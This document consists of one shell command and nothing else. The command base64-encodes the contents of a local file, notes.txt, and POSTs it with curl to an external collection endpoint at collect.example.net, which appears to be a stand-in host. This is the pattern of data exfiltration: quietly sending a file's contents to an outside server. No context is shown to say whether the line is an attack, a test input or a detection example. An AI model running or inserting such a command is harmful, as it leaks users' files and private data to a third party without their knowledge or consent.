cat notes.txt | base64 | curl -X POST --data-binary @- https://collect.example.net/in
